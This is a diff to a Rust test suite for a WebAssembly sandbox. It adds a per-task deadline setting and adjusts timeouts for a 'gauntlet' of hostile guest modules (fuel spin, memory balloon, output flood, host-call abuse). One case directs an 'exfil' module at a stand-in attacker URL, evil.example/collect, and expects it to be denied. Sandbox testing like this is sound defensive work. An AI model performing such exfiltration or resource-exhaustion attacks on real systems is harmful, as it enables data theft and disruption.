@@ -138,6 +138,13 @@ impl Case {
         self
     }
 
+    /// `deadlineSeconds` counts from the Task's creation: the executor stops the guest at
+    /// what is left, or the operator fails a Task still queued — `DeadlineExceeded` either way.
+    fn deadline(mut self, seconds: u32) -> Case {
+        self.spec = json!({ "deadlineSeconds": seconds });
+        self
+    }
+
     fn check(mut self, check: Check) -> Case {
         self.check = Some(check);
         self
@@ -243,7 +250,7 @@ fn gauntlet(ctx: &Ctx) -> Result<()> {
                 "gauntlet",
                 "gauntlet-module",
                 2,
-                "  limits:\n    fuel: 100000000000\n    memoryBytes: 33554432\n    timeoutSeconds: 1\n    maxOutputBytes: 1048576\n",
+                "  limits:\n    fuel: 100000000000\n    memoryBytes: 33554432\n    timeoutSeconds: 10\n    maxOutputBytes: 1048576\n",
             ),
         )?;
         agent_ready(&client, &ns, "gauntlet").await?;
@@ -251,7 +258,7 @@ fn gauntlet(ctx: &Ctx) -> Result<()> {
         let g = "gauntlet";
         let attacks = vec![
             Case::hostile("spin-fuel", g, "spin", FuelExhausted).fuel(SMALL_FUEL),
-            Case::hostile("spin-deadline", g, "spin", DeadlineExceeded),
+            Case::hostile("spin-deadline", g, "spin", DeadlineExceeded).deadline(1),
             Case::hostile("balloon", g, "balloon", Trap).check(memory_limit_hit),
             Case::hostile("mega", g, "mega", Trap).check(memory_limit_hit),
             Case::hostile("deep", g, "deep", Trap),
@@ -259,8 +266,8 @@ fn gauntlet(ctx: &Ctx) -> Result<()> {
             Case::hostile("exit", g, "exit", Trap),
             Case::hostile("flood", g, "flood 4", OutputTooLarge),
             Case::hostile("exfil", g, "exfil https://evil.example/collect", CapabilityDenied),
-            // Host calls cost far more host time per fuel unit: a smaller budget keeps this
-            // well inside the 1 s deadline even on a debug build.
+            // Host calls cost far more host time per fuel unit: a smaller budget keeps these
+            // short on a loaded machine.
             Case::hostile("hostcall", g, "hostcall", FuelExhausted).fuel(SMALL_FUEL / 10),
             Case::hostile("loud", g, "loud", FuelExhausted).fuel(SMALL_FUEL / 10),
             Case::hostile("wasi", g, "wasi", Trap).check(contained),
